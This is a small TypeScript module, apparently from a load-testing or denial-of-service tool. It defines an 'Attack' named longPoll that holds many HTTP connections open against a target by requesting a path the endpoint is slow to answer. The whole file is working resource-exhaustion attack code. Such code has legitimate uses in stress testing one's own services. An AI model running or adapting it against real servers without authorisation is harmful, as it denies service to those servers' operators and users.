/** Answers that are long in coming: connections that ask an endpoint for what it has not got yet. */
import type { Attack } from './attack.ts'

export const longPoll: Attack = (target, swarm, { connections, path }) => {
  swarm.keepMany(Number(connections), () => {
    const socket = swarm.connect(target.http, 'plain', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${target.host}\r\n\r\n`)
    })
    return socket.resume()
  })
}
